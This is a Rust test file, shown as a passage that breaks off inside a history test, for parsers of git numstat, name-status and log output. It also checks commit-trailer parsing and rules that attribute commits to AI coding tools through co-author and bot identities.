//! The pure parsers of git output: diffs, logs, trailers, provenance, fix
//! flags and history metrics, on byte-level cases.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "test code: a panic is a failed test"
)]

use blastgate_change::{AiInvolvement, ChangeError, FileChange, FileStatus, ProvenanceSource};
use blastgate_ingest::git::{
    AiAgent, AiAgents, Commit, CommitLog, HistoryQuery, NameStatus, history_metrics, identities, identity, is_fix,
    mark_binary, merge_name_status, parse_log, parse_merges_with_content, parse_name_status_z, parse_numstat_z,
    provenance, range_is_fix, subject, tool_and_model, trailers,
};
use proptest::prelude::*;
use std::collections::BTreeSet;

const H1: &str = "1111111111111111111111111111111111111111";
const H2: &str = "2222222222222222222222222222222222222222";
const H3: &str = "3333333333333333333333333333333333333333";

fn syntax_place(err: &ChangeError) -> String {
    match err {
        ChangeError::Syntax(d) => d.place().to_owned(),
        other => panic!("expected a syntax error, got {other:?}"),
    }
}

fn pairs(message: &str) -> Vec<(String, String)> {
    trailers(message)
}

fn kv(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
}

fn commit(message: &str) -> Commit {
    Commit {
        hash: H1.into(),
        author_name: "Dev".into(),
        author_email: "dev@example.com".into(),
        committer_name: "Dev".into(),
        committer_email: "dev@example.com".into(),
        message: message.into(),
        ..Commit::default()
    }
}

// ---- numstat ----

#[test]
fn numstat_reads_counts_and_paths() {
    let files = parse_numstat_z(b"10\t2\tsrc/main.rs\x000\t7\tREADME.md\x00").unwrap();
    assert_eq!(files.len(), 2);
    assert_eq!((files[0].path.as_str(), files[0].added, files[0].deleted), ("src/main.rs", 10, 2));
    assert_eq!((files[1].path.as_str(), files[1].added, files[1].deleted), ("README.md", 0, 7));
    assert!(files.iter().all(|f| f.status == FileStatus::Modified && f.old_path.is_none() && !f.binary));
}

#[test]
fn numstat_rename_keeps_spaces_and_tabs_in_names() {
    let bytes = b"3\t1\t\x00old dir/a b.txt\x00new\tdir/a\tb.txt\x00";
    let files = parse_numstat_z(bytes).unwrap();
    assert_eq!(files.len(), 1);
    assert_eq!(files[0].path, "new\tdir/a\tb.txt");
    assert_eq!(files[0].old_path.as_deref(), Some("old dir/a b.txt"));
    assert_eq!(files[0].status, FileStatus::Renamed, "numstat alone cannot tell a copy from a rename");
    assert_eq!((files[0].added, files[0].deleted), (3, 1));
}

#[test]
fn numstat_binary_has_no_line_counts() {
    let files = parse_numstat_z(b"-\t-\timg/logo.png\x00-\t-\t\x00a.bin\x00b.bin\x00").unwrap();
    assert!(files.iter().all(|f| f.binary && f.added == 0 && f.deleted == 0));
    assert_eq!(files[1].old_path.as_deref(), Some("a.bin"));
}

#[test]
fn numstat_empty_output_is_no_files() {
    assert!(parse_numstat_z(b"").unwrap().is_empty());
}

#[test]
fn numstat_malformed_records_are_syntax_errors_naming_the_record() {
    let cases: &[(&[u8], &str)] = &[
        (b"1\t2\tok\x00x", "record 2"),                     // truncated second record
        (b"1\t2\tpath-without-nul", "record 1"),            // no NUL terminator
        (b"12\tpath\x00", "record 1"),                      // one count only
        (b"a\t2\tp\x00", "record 1"),                       // not a number
        (b"-\t2\tp\x00", "record 1"),                       // binary marker on one side
        (b"\t\tp\x00", "record 1"),                         // empty counts
        (b"1\t2\t\x00old\x00", "record 1"),                 // rename without new path
        (b"1\t2\t\x00\x00new\x00", "record 1"),             // rename with empty old path
        (b"99999999999999999999999\t0\tp\x00", "record 1"), // overflows u64
        (b"1\x002\tp\x00", "record 1"),                     // NUL inside the counts
        (b"+1\t2\tp\x00", "record 1"),                      // sign
    ];
    for (bytes, place) in cases {
        let err = parse_numstat_z(bytes).unwrap_err();
        assert_eq!(syntax_place(&err), *place, "input {:?}: {err}", String::from_utf8_lossy(bytes));
        assert_eq!(err.kind_name(), "syntax");
    }
}

#[test]
fn numstat_non_utf8_path_is_an_error_with_a_hint() {
    let err = parse_numstat_z(b"1\t0\tok.txt\x001\t0\tbad\xff.txt\x00").unwrap_err();
    assert_eq!(syntax_place(&err), "record 2");
    let ChangeError::Syntax(d) = &err else { unreachable!() };
    assert!(d.message().contains("UTF-8"), "{err}");
    assert!(d.help().is_some_and(|h| h.contains("rename")), "{err}");
}

#[test]
fn numstat_path_over_the_string_limit_is_a_limit_error() {
    let mut bytes = b"1\t1\t".to_vec();
    bytes.extend(std::iter::repeat_n(b'a', blastgate_change::limits::MAX_STRING_BYTES + 1));
    bytes.push(0);
    let err = parse_numstat_z(&bytes).unwrap_err();
    assert!(err.is_limit(), "{err}");
    assert!(err.to_string().contains("max_string_bytes"), "{err}");
}

#[test]
fn numstat_more_than_max_files_is_a_limit_error() {
    let n = blastgate_change::limits::MAX_FILES + 1;
    let mut bytes = Vec::new();
    for i in 0..n {
        bytes.extend(format!("1\t0\tf{i}\0").bytes());
    }
    let err = parse_numstat_z(&bytes).unwrap_err();
    assert!(err.to_string().contains("max_files"), "{err}");
}

// ---- name-status and merge ----

#[test]
fn name_status_reads_every_status() {
    let bytes = b"A\x00new file\x00M\x00mod\x00D\x00gone\x00T\x00link\x00R100\x00old\x00new\x00C075\x00src\x00copy\x00";
    let records = parse_name_status_z(bytes).unwrap();
    let got: Vec<_> = records.iter().map(|r| (r.status, r.path.as_str(), r.old_path.as_deref(), r.score)).collect();
    assert_eq!(
        got,
        [
            (FileStatus::Added, "new file", None, None),
            (FileStatus::Modified, "mod", None, None),
            (FileStatus::Deleted, "gone", None, None),
            (FileStatus::Modified, "link", None, None),
            (FileStatus::Renamed, "new", Some("old"), Some(100)),
            (FileStatus::Copied, "copy", Some("src"), Some(75)),
        ]
    );
}

#[test]
fn name_status_rejects_unknown_and_truncated_records() {
    let cases: &[&[u8]] = &[
        b"U\x00conflict\x00",
        b"X\x00what\x00",
        b"R1000\x00a\x00b\x00",
        b"Rxx\x00a\x00b\x00",
        b"R100\x00only-one\x00",
        b"M\x00",
        b"M",
        b"\x00path\x00",
        b"A\x00\x00",
    ];
    for bytes in cases {
        let err = parse_name_status_z(bytes).unwrap_err();
        assert_eq!(err.kind_name(), "syntax", "{:?}: {err}", String::from_utf8_lossy(bytes));
    }
    assert!(parse_name_status_z(b"").unwrap().is_empty());
}

#[test]
fn merge_takes_status_and_old_path_from_name_status() {
    let numstat = parse_numstat_z(b"4\t0\tnew.txt\x001\t1\t\x00a.txt\x00b.txt\x000\t9\tgone.txt\x00").unwrap();
    let statuses = parse_name_status_z(b"A\x00new.txt\x00C090\x00a.txt\x00b.txt\x00D\x00gone.txt\x00").unwrap();
    let files = merge_name_status(numstat, statuses).unwrap();
    let got: Vec<_> = files.iter().map(|f| (f.path.as_str(), f.status, f.old_path.as_deref())).collect();
    assert_eq!(
        got,
        [
            ("new.txt", FileStatus::Added, None),
            ("b.txt", FileStatus::Copied, Some("a.txt")),
            ("gone.txt", FileStatus::Deleted, None)
        ]
    );
    assert_eq!((files[0].added, files[2].deleted), (4, 9));
}

#[test]
fn merge_rejects_outputs_that_disagree() {
    let one = || parse_numstat_z(b"1\t0\ta\x00").unwrap();
    let status =
        |path: &str| vec![NameStatus { status: FileStatus::Added, path: path.into(), old_path: None, score: None }];
    assert_eq!(merge_name_status(one(), status("b")).unwrap_err().kind_name(), "syntax");
    assert_eq!(merge_name_status(one(), Vec::new()).unwrap_err().kind_name(), "syntax");
    let renamed = parse_numstat_z(b"1\t0\t\x00old\x00new\x00").unwrap();
    let other_old =
        vec![NameStatus { status: FileStatus::Renamed, path: "new".into(), old_path: Some("x".into()), score: None }];
    assert_eq!(merge_name_status(renamed, other_old).unwrap_err().kind_name(), "syntax");
    let rename_status =
        vec![NameStatus { status: FileStatus::Renamed, path: "a".into(), old_path: Some("z".into()), score: None }];
    assert_eq!(merge_name_status(one(), rename_status).unwrap_err().kind_name(), "syntax", "one path vs two");
}

// ---- log ----

fn log_record(hash: &str, parents: &str, name: &str, email: &str, time: &str, message: &str) -> Vec<u8> {
    format!("\0{hash}\0{parents}\0{name}\0{email}\0Committer\0c@x\0{time}\0{message}").into_bytes()
}

#[test]
fn log_without_files() {
    let mut bytes = log_record(H2, H1, "Ann", "ann@x", "1700000000", "second\n\nbody\n");
    bytes.push(0);
    bytes.extend(log_record(H1, "", "Bob", "bob@x", "1690000000", "first\n"));
    bytes.push(0);
    let commits = parse_log(&bytes).unwrap();
    assert_eq!(commits.len(), 2);
    assert_eq!(commits[0].hash, H2);
    assert_eq!(commits[0].parents, [H1]);
    assert_eq!((commits[0].author_name.as_str(), commits[0].author_email.as_str()), ("Ann", "ann@x"));
    assert_eq!((commits[0].committer_name.as_str(), commits[0].committer_email.as_str()), ("Committer", "c@x"));
    assert_eq!(commits[0].time, 1_700_000_000);
    assert_eq!(commits[0].message, "second\n\nbody");
    assert!(commits[1].parents.is_empty(), "a root commit has no parents");
    assert!(commits.iter().all(|c| c.files.is_empty()));
}

#[test]
fn log_with_name_only_files_and_odd_paths() {
    let mut bytes = log_record(H3, &format!("{H1} {H2}"), "Ann", "ann@x", "3", "merge\n");
    bytes.push(0); // a merge lists no files
    bytes.extend(log_record(H2, H1, "Ann", "ann@x", "2", "two\n"));
    bytes.extend(b"\0\nsrc/a b.txt\0tab\there\0\nstarts-with-newline\0");
    bytes.extend(log_record(H1, "", "Bob", "bob@x", "1", ""));
    bytes.extend(b"\0\nroot.txt\0");
    let commits = parse_log(&bytes).unwrap();
    assert_eq!(commits.len(), 3);
    assert!(commits[0].is_merge() && commits[0].files.is_empty());
    assert_eq!(commits[1].files, ["src/a b.txt", "tab\there", "\nstarts-with-newline"]);
    assert_eq!(commits[2].message, "");
    assert_eq!(commits[2].files, ["root.txt"]);
}

#[test]
fn log_empty_output_is_no_commits() {
    assert!(parse_log(b"").unwrap().is_empty());
}

#[test]
fn log_malformed_records_are_syntax_errors() {
    let cases: Vec<Vec<u8>> = vec![
        b"no-marker\0".to_vec(),
        log_record("xyz", "", "a", "b", "1", "m"),
        log_record(H1, "nothex", "a", "b", "1", "m"),
        log_record(H1, "", "a", "b", "soon", "m"),
        format!("\0{H1}\0\0name").into_bytes(),
        [log_record(H1, "", "a", "b", "1", "m"), b"\0file-without-newline\0".to_vec()].concat(),
        b"\0".to_vec(),
    ];
    for bytes in cases {
        let err = parse_log(&bytes).unwrap_err();
        assert_eq!(err.kind_name(), "syntax", "{:?}: {err}", String::from_utf8_lossy(&bytes));
        assert!(syntax_place(&err).starts_with("record "), "{err}");
    }
}

// ---- trailers ----

#[test]
fn trailers_in_the_last_paragraph() {
    let m = "Add thing\n\nLong body.\n\nReviewed-by: A <a@x>\nSigned-off-by: B <b@x>\n";
    assert_eq!(pairs(m), kv(&[("Reviewed-by", "A <a@x>"), ("Signed-off-by", "B <b@x>")]));
}

/// Git ignores a message from its scissors line on (checked against `git
/// interpret-trailers --parse`): trailers above it count, lines below it
/// do not, and a line that only looks like it (two spaces) is text.
#[test]
fn a_scissors_line_ends_the_message() {
    let cut = "# ------------------------ >8 ------------------------";
    let m = format!("feat: a\n\nAssisted-by: Claude\n{cut}\ndiff notes\nKey: v\n");
    assert_eq!(pairs(&m), kv(&[("Assisted-by", "Claude")]));
    let m = format!("feat: a\n\nAssisted-by: Claude\n{cut}");
    assert_eq!(pairs(&m), kv(&[("Assisted-by", "Claude")]));
    assert!(pairs(&format!("feat: a\n\nbody\n{cut}\nAssisted-by: Claude\n")).is_empty());
    let near = "#  ------------------------ >8 ------------------------";
    assert!(pairs(&format!("feat: a\n\nAssisted-by: Claude\n{near}\ndiff notes\n")).is_empty());
}

#[test]
fn trailer_continuation_lines_are_unfolded() {
    let m = "subject\n\nAssisted-by: Claude:claude-3-opus\n  coccinelle\n\tsparse\nNext: x\n";
    assert_eq!(pairs(m), kv(&[("Assisted-by", "Claude:claude-3-opus coccinelle sparse"), ("Next", "x")]));
}

#[test]
fn last_paragraph_that_is_not_all_trailers_has_none() {
    assert!(pairs("subject\n\nThis fixes it.\nKey: value\n").is_empty());
    assert!(pairs("subject\n\nKey: value\n\nA closing sentence.\n").is_empty());
}

#[test]
fn signed_off_by_makes_a_quarter_enough() {
    // One git-generated line, one other trailer, six prose lines: 2 of 8 = 25%.
    let m = "s\n\nKey: v\nprose\nprose\nprose\nprose\nprose\nprose\nSigned-off-by: A <a@x>\n";
    assert_eq!(pairs(m), kv(&[("Key", "v"), ("Signed-off-by", "A <a@x>")]));
    let m = "s\n\nprose\nprose\nprose\nprose\nprose\nprose\nprose\nSigned-off-by: A <a@x>\n";
    assert!(pairs(m).is_empty(), "1 of 8 is under 25%");
}

#[test]
fn the_title_is_never_trailers() {
    assert!(pairs("Key: v\n").is_empty());
    assert!(pairs("Key: v\nOther: w\n").is_empty());
    assert!(pairs("").is_empty());
}

#[test]
fn comments_trailing_blanks_and_dashes() {
    assert_eq!(pairs("s\n\nKey: v\n# a comment\n\n\n"), kv(&[("Key", "v")]));
    // In commit messages `---` is not a patch divider (git log's %(trailers)).
    assert_eq!(pairs("s\n\nbody\n---\nmore\n\nKey: v\n"), kv(&[("Key", "v")]));
    assert_eq!(pairs("s\r\n\r\nKey: v\r\n"), kv(&[("Key", "v")]));
}

#[test]
fn key_syntax_follows_git() {
    assert_eq!(pairs("s\n\nKey : v\nKey\t: w\n"), kv(&[("Key", "v"), ("Key", "w")]));
    assert!(pairs("s\n\n Key: v\n").is_empty(), "an indented first line is not a trailer");
    // As in git, a URL line is a trailer with the key `http`.
    assert_eq!(pairs("s\n\nhttp://example.com/x: v\n"), kv(&[("http", "//example.com/x: v")]));
    assert!(pairs("s\n\nnot a key: v\n").is_empty(), "spaces inside a key");
    assert_eq!(pairs("s\n\nEmpty:\n"), kv(&[("Empty", "")]));
}

#[test]
fn subject_joins_the_first_paragraph() {
    assert_eq!(subject("fix: a\nsecond line\n\nbody"), "fix: a second line");
    assert_eq!(subject("\n\n  only  \n"), "only");
}

// ---- provenance ----

#[test]
fn kernel_assisted_by_gives_tool_and_model() {
    let c = commit("Fix a leak\n\nAssisted-by: Claude:claude-3-opus coccinelle sparse\nSigned-off-by: Dev <dev@x>");
    let p = provenance(&[c], &AiAgents::default());
    assert_eq!(p.ai, Some(AiInvolvement::Assisted));
    assert_eq!(p.tool.as_deref(), Some("Claude"));
    assert_eq!(p.model.as_deref(), Some("claude-3-opus"));
    assert_eq!(p.source, ProvenanceSource::Trailer);
}

#[test]
fn tool_values_without_the_kernel_form() {
    assert_eq!(tool_and_model("GitHub Copilot"), (Some("GitHub Copilot".into()), None));
    assert_eq!(tool_and_model("Claude <noreply@anthropic.com>"), (Some("Claude".into()), None));
    assert_eq!(tool_and_model("https://example.com/bot"), (Some("https://example.com/bot".into()), None));
    assert_eq!(tool_and_model(""), (None, None));
    assert_eq!(identity("A B <a@b>"), ("A B", "a@b"));
}

#[test]
fn generated_by_and_agent_trailers() {
    let generated = commit("s\n\nGenerated-by: Codex:gpt-5-codex");
    let p = provenance(std::slice::from_ref(&generated), &AiAgents::default());
    assert_eq!(
        (p.ai, p.tool.as_deref(), p.model.as_deref()),
        (Some(AiInvolvement::Generated), Some("Codex"), Some("gpt-5-codex"))
    );
    let agent = commit("s\n\nAgent: openhands");
    let p = provenance(std::slice::from_ref(&agent), &AiAgents::default());
    assert_eq!((p.ai, p.tool.as_deref()), (Some(AiInvolvement::Agent), Some("openhands")));
    // The strongest fact over the range wins, whatever the order.
    let assisted = commit("s\n\nAssisted-by: Cursor");
    let p = provenance(&[assisted, agent, generated], &AiAgents::default());
    assert_eq!(p.ai, Some(AiInvolvement::Agent));
}

/// A tool's own line in the body counts without its trailer (red team
/// 11); Amp's trailer is a tool's. Prose that only mentions a tool does
/// not.
#[test]
fn tool_markers_in_the_body_count() {
    let cases: &[(&str, Option<AiInvolvement>, Option<&str>)] = &[
        (
            "feat: tweak\n\n\u{1f916} Generated with [Claude Code](https://claude.com/claude-code)",
            Some(AiInvolvement::Generated),
            Some("claude-code"),
        ),
        ("feat: tweak\n\nAmp-Thread-ID: https://ampcode.com/threads/T-1", Some(AiInvolvement::Generated), Some("amp")),
        ("feat: tweak\n\nCo-authored-by: Amp <amp@ampcode.com>", Some(AiInvolvement::Generated), Some("amp")),
        ("feat: compare Claude and Copilot in the docs", None, None),
        // Tools whose identities red team 11 found unlisted.
        ("feat: x\n\nCo-Authored-By: opencode <noreply@opencode.ai>", Some(AiInvolvement::Generated), Some("opencode")),
        ("feat: x\n\nCo-Authored-By: Crush <crush@charm.land>", Some(AiInvolvement::Generated), Some("crush")),
        (
            "feat: x\n\nCo-authored-by: Qwen-Coder <qwen-coder@alibabacloud.com>",
            Some(AiInvolvement::Generated),
            Some("qwen-code"),
        ),
        (
            "feat: x\n\nCo-authored-by: Gemini CLI <gemini-cli@google.com>",
            Some(AiInvolvement::Generated),
            Some("gemini-cli"),
        ),
        (
            "feat: x\n\nCo-authored-by: Windsurf Cascade <cascade@windsurf.ai>",
            Some(AiInvolvement::Generated),
            Some("windsurf"),
        ),
        ("feat: x\n\nCo-Authored-By: Kiro <noreply@kiro.dev>", Some(AiInvolvement::Generated), Some("kiro")),
        ("feat: x\n\nCo-authored-by: Droid <droid@factory.ai>", Some(AiInvolvement::Generated), Some("droid")),
        ("feat: x\n\nCo-authored-by: Copilot <copilot@github.com>", Some(AiInvolvement::Generated), Some("copilot")),
        ("feat: x\n\nCo-authored-by: Roo Code <roomote@roocode.com>", Some(AiInvolvement::Agent), Some("roo-code")),
        // A known tool's trailer line where git's trailer rules do not
        // look (red team 12): a squash message's indented commits, a
        // middle paragraph, right under the body's text.
        (
            "Squashed commit of the following:\n\ncommit 1234\n\n    feat: x\n\n    Co-authored-by: Claude <noreply@anthropic.com>\n",
            Some(AiInvolvement::Generated),
            Some("claude-code"),
        ),
        (
            "feat: x\n\nCo-authored-by: Claude <noreply@anthropic.com>\n\nfix: y\n\nMore text that is no trailer.",
            Some(AiInvolvement::Generated),
            Some("claude-code"),
        ),
        ("feat: x\n\nSome text\nAssisted-by: GitHub Copilot", Some(AiInvolvement::Assisted), Some("copilot")),
        // An `Assisted-by:` naming a person in the body is a person.
        ("feat: x\n\nThanks to the team.\nAssisted-by: Daniel Gustafsson\n\nMore text.", None, None),
        // A first name is no tool without the tool's address.
        ("feat: x\n\nCo-authored-by: Kiro Tanaka <kiro@example.jp>", None, None),
    ];
    for (message, ai, tool) in cases {
        let p = provenance(&[commit(message)], &AiAgents::default());
        assert_eq!((p.ai, p.tool.as_deref()), (*ai, *tool), "{message}");
    }
}

#[test]
fn no_ai_trailers_leave_the_involvement_unstated() {
    let c = commit("Plain change\n\nSigned-off-by: Dev <dev@x>\nCo-authored-by: Jane Doe <jane@example.com>");
    let p = provenance(&[c], &AiAgents::default());
    assert_eq!((p.ai, p.tool, p.model, p.source), (None, None, None, ProvenanceSource::Trailer));
}

#[test]
fn co_authored_by_matches_each_default_agent() {
    use AiInvolvement::{Agent, Generated};
    let cases: &[(&str, &str, AiInvolvement, Option<&str>)] = &[
        ("Claude <noreply@anthropic.com>", "claude-code", Generated, None),
        ("Claude Code <noreply@anthropic.com>", "claude-code", Generated, None),
        ("Claude Opus 4.7 (1M context) <noreply@anthropic.com>", "claude-code", Generated, Some("Claude Opus 4.7")),
        ("Copilot <223556219+Copilot@users.noreply.github.com>", "copilot", Generated, None),
        ("copilot-swe-agent[bot] <198982749+Copilot@users.noreply.github.com>", "copilot-coding-agent", Agent, None),
        ("Cursor Agent <cursoragent@cursor.com>", "cursor", Generated, None),
        (
            "devin-ai-integration[bot] <158243242+devin-ai-integration[bot]@users.noreply.github.com>",
            "devin",
            Agent,
            None,
        ),
        ("Codex <noreply@openai.com>", "codex", Generated, None),
        (
            "chatgpt-codex-connector[bot] <199175422+chatgpt-codex-connector[bot]@users.noreply.github.com>",
            "codex-cloud",
            Agent,
            None,
        ),
        ("aider (gpt-4o) <aider@aider.chat>", "aider", Generated, Some("gpt-4o")),
        ("aider (claude-3-5-sonnet) <noreply@aider.chat>", "aider", Generated, Some("claude-3-5-sonnet")),
        (
            "gemini-code-assist[bot] <176961590+gemini-code-assist[bot]@users.noreply.github.com>",
            "gemini-code-assist",
            Generated,
            None,
        ),
        (
            "amazon-q-developer[bot] <208079219+amazon-q-developer[bot]@users.noreply.github.com>",
            "amazon-q",
            Agent,
            None,
        ),
        ("google-labs-jules[bot] <161369871+google-labs-jules[bot]@users.noreply.github.com>", "jules", Agent, None),
        ("openhands <openhands@all-hands.dev>", "openhands", Agent, None),
    ];
    for (who, tool, ai, model) in cases {
        let c = commit(&format!("Change\n\nBody.\n\nCo-authored-by: {who}\n"));
        let p = provenance(&[c], &AiAgents::default());
        assert_eq!((p.ai, p.tool.as_deref(), p.model.as_deref()), (Some(*ai), Some(*tool), *model), "{who}");
    }
}

/// One `Co-authored-by:` line may name several identities: only the last
/// `<email>` counted (a git audit), so `Claude <...>, Jun <...>` stated no
/// AI and Jun could approve.
#[test]
fn a_co_author_line_naming_several_identities_names_each() {
    assert_eq!(
        identities("Claude <noreply@anthropic.com>, Jun <jun@corp.com>"),
        [("Claude", "noreply@anthropic.com"), ("Jun", "jun@corp.com")]
    );
    assert_eq!(
        identities("Jun <jun@corp.com>; Kim <kim@corp.com>, Lee"),
        [("Jun", "jun@corp.com"), ("Kim", "kim@corp.com"), ("Lee", "")]
    );
    assert_eq!(identities("Doe, Jane <jane@corp.com>"), [("Doe, Jane", "jane@corp.com")]);
    assert_eq!(identities("Jun <jun@corp.com> (pairing)"), [("Jun", "jun@corp.com")]);
    assert_eq!(identities("Bob"), [("Bob", "")]);
    assert_eq!(identities("Jun <jun@corp.com"), [("Jun", "jun@corp.com")]);

    let c = commit("s\n\nCo-authored-by: Claude <noreply@anthropic.com>, Jun <jun@corp.com>");
    let agents = AiAgents::default();
    assert_eq!(provenance(std::slice::from_ref(&c), &agents).ai, Some(AiInvolvement::Generated));
    assert_eq!(blastgate_ingest::git::people(&[c], &agents), ["dev@example.com", "jun@corp.com"]);
    let c = commit("s\n\nCo-authored-by: Jun <jun@corp.com>, Kim <kim@corp.com>");
    assert_eq!(blastgate_ingest::git::people(&[c], &agents), ["dev@example.com", "jun@corp.com", "kim@corp.com"]);
}

/// A GitHub app account of a listed tool (`claude[bot]`) is that tool
/// acting as an agent; it counted as a person (a git audit).
#[test]
fn the_app_account_of_a_listed_tool_is_an_agent() {
    let agents = AiAgents::default();
    for who in [
        "claude[bot] <209825114+claude[bot]@users.noreply.github.com>",
        "Claude[bot] <someone@example.com>",
        "Someone <claude[bot]@users.noreply.github.com>",
        "cursor[bot] <206951365+cursor[bot]@users.noreply.github.com>",
        "claude-code[bot] <1+claude-code[bot]@users.noreply.github.com>",
    ] {
        let c = commit(&format!("s\n\nCo-authored-by: {who}"));
        let p = provenance(std::slice::from_ref(&c), &agents);
        assert_eq!(p.ai, Some(AiInvolvement::Agent), "{who}");
        assert_eq!(blastgate_ingest::git::people(&[c], &agents), ["dev@example.com"], "{who}");
    }
    // A listed `[bot]` name keeps its own kind; another app is no tool.
    let c = commit("s\n\nCo-authored-by: gemini-code-assist[bot] <1+gemini-code-assist[bot]@users.noreply.github.com>");
    assert_eq!(provenance(&[c], &agents).ai, Some(AiInvolvement::Generated));
    let c = commit("s\n\nCo-authored-by: renovate[bot] <29139614+renovate[bot]@users.noreply.github.com>");
    assert_eq!(provenance(&[c], &agents).ai, None);
}

#[test]
fn co_author_keys_and_identities_are_case_insensitive() {
    let c = commit("s\n\nCO-AUTHORED-BY: CLAUDE <NoReply@Anthropic.com>");
    assert_eq!(provenance(&[c], &AiAgents::default()).ai, Some(AiInvolvement::Generated));
}

#[test]
fn people_who_share_a_first_name_with_a_tool_are_not_agents() {
    for who in ["Claude Monet <claude@example.com>", "Jules Verne <jules@example.com>", "Devin Smith <d@x>"] {
        let c = commit(&format!("s\n\nCo-authored-by: {who}"));
        assert_eq!(provenance(&[c], &AiAgents::default()).ai, None, "{who}");
    }
}

#[test]
fn agent_author_and_aider_author_suffix() {
    let mut bot = commit("Implement feature");
    bot.author_name = "copilot-swe-agent[bot]".into();
    bot.author_email = "198982749+Copilot@users.noreply.github.com".into();
    let p = provenance(&[bot], &AiAgents::default());
    assert_eq!((p.ai, p.tool.as_deref()), (Some(AiInvolvement::Agent), Some("copilot-coding-agent")));
    let mut aider = commit("Refactor parser");
    aider.author_name = "Jane Doe (aider)".into();
    let p = provenance(&[aider], &AiAgents::default());
    assert_eq!((p.ai, p.tool.as_deref()), (Some(AiInvolvement::Generated), Some("aider")));
}

/// Regression (a git audit): a known agent as the committer of a
/// person's commit counted as no AI at all. The agent list applies to
/// committers as to authors; generic bots are not agents.
#[test]
fn an_agent_committer_counts_and_generic_bots_do_not() {
    let mut c = commit("Implement feature");
    c.committer_name = "copilot-swe-agent[bot]".into();
    c.committer_email = "198982749+Copilot@users.noreply.github.com".into();
    let p = provenance(&[c], &AiAgents::default());
    assert_eq!((p.ai, p.tool.as_deref()), (Some(AiInvolvement::Agent), Some("copilot-coding-agent")));
    for (name, email) in [
        ("GitHub", "noreply@github.com"),
        ("web-flow", "noreply@github.com"),
        ("github-actions[bot]", "41898282+github-actions[bot]@users.noreply.github.com"),
        ("dependabot[bot]", "49699333+dependabot[bot]@users.noreply.github.com"),
    ] {
        let mut c = commit("Merge pull request #1");
        (c.committer_name, c.committer_email) = (name.into(), email.into());
        assert_eq!(provenance(&[c], &AiAgents::default()).ai, None, "{name}");
    }
}

#[test]
fn custom_agents_can_be_added_or_all_removed() {
    let c = commit("s\n\nCo-authored-by: Helper Bot <helper@corp.example>");
    assert_eq!(provenance(std::slice::from_ref(&c), &AiAgents::default()).ai, None);
    let mut agents = AiAgents::default();
    agents.add(AiAgent::autonomous("corp-helper", &[], &["helper@corp.example"]));
    let p = provenance(&[c], &agents);
    assert_eq!((p.ai, p.tool.as_deref()), (Some(AiInvolvement::Agent), Some("corp-helper")));
    let claude = commit("s\n\nCo-authored-by: Claude <noreply@anthropic.com>");
    assert_eq!(provenance(std::slice::from_ref(&claude), &AiAgents::none()).ai, None);
    let mut one = AiAgents::none();
    one.add(AiAgent::interactive("claude-code", &[], &[]).with_email("noreply@anthropic.com"));
    assert_eq!(provenance(&[claude], &one).ai, Some(AiInvolvement::Generated));
}

// ---- fix ----

#[test]
fn fix_rules() {
    for s in [
        "fix: null check",
        "Fix crash on start",
        "fix(api): retry",
        "Hotfix for login",
        "fix!: drop the retry",
        "FIX(cart)!: totals",
        "bugfix",
    ] {
        assert!(is_fix(&commit(s)), "{s}");
    }
    // A word further on makes no fix: a fix passes freezes and sev1s (an
    // incident-response audit: a feature about bug bounties passed one).
    for s in [
        "Add fixtures",
        "debug logging",
        "Prefix keys",
        "feat: new page",
        "feat(checkout): add bug bounty banner",
        "Handle bug in parser",
        "Add hotfix tooling",
        // Compounds and look-alikes (a red-team audit).
        "bug-bounty: add landing page",
        "Fixed-price plans: new checkout flow",
        "bug tracker integration for cart",
        "[hotfix-free zone] add recommendations",
        "FIX-123: new report",
        "fixup! add page",
        "Bug 1234: crash in parser",
    ] {
        assert!(!is_fix(&commit(s)), "{s}");
    }
    assert!(is_fix(&commit("Tidy the cache\n\nFixes: 1234567890ab (\"cache: add\")")));
}

#[test]
fn a_range_is_a_fix_only_when_every_commit_is() {
    let fix = commit("fix: a");
    let feat = commit("feat: b");
    let mut merge = commit("Merge branch 'x'");
    merge.hash = H3.into();
    merge.parents = vec![H1.into(), H2.into()];
    let clean = BTreeSet::new();
    assert_eq!(range_is_fix(&[fix.clone(), merge.clone()], &clean), Some(true), "clean merges do not count");
    assert_eq!(range_is_fix(&[fix.clone(), feat], &clean), Some(false));
    assert_eq!(range_is_fix(&[merge.clone()], &clean), None);
    assert_eq!(range_is_fix(&[], &clean), None);
    // A merge with content of its own counts as a commit: not a fix
    // unless its own message says so.
    let evil = BTreeSet::from([H3.to_owned()]);
    assert_eq!(range_is_fix(&[fix.clone(), merge.clone()], &evil), Some(false));
    assert_eq!(range_is_fix(&[merge.clone()], &evil), Some(false));
    let mut fixing_merge = merge.clone();
    fixing_merge.message = "Merge branch 'x'\n\nFixes: 1234567890ab (\"x\")".into();
    assert_eq!(range_is_fix(&[fix.clone(), fixing_merge], &evil), Some(true));
    // An octopus merge counts whatever the set says (git's remerge diff
    // does not check it).
    let mut octopus = merge;
    octopus.parents.push(H1.into());
    assert_eq!(range_is_fix(&[fix, octopus], &clean), Some(false));
}

/// `git log --merges --remerge-diff --name-only -z --format=%x00%H`: a
/// merge with paths after its hash brings content of its own.
#[test]
fn merges_with_content_are_those_with_paths() {
    let out = format!("\0{H1}\0\0{H2}\0\nsrc/new_feature.go\0src/a.go\0\0{H3}\0");
    assert_eq!(parse_merges_with_content(out.as_bytes()).unwrap(), BTreeSet::from([H2.to_owned()]));
    assert!(parse_merges_with_content(b"").unwrap().is_empty());
    for bad in [&b"x\0"[..], b"\0nothash\0", b"\0"] {
        let e = parse_merges_with_content(bad).unwrap_err();
        assert!(e.to_string().contains("git log --remerge-diff"), "{e}");
    }
}

// ---- history ----

fn at(days: f64) -> i64 {
    (days * 86_400.0) as i64
}

fn hist(hash: &str, email: &str, day: f64, files: &[&str]) -> Commit {
    Commit {
        hash: hash.into(),
        author_email: email.into(),
        time: at(day),
        files: files.iter().map(|f| (*f).to_owned()).collect(),
        ..Commit::default()
    }
}

fn change(path: &str, status: FileStatus, old: Option<&str>) -> FileChange {
    FileChange { path: path.into(), status, old_path: old.map(str::to_owned), ..FileChange::default() }
}

#[test]
fn history_metrics_by_hand() {
    // Base history, newest first. The change (at day 40, by ann) modifies
    // svc/a.txt, renames lib/old.txt to lib/new.txt and adds svc/new.txt.
    let base_history = vec![
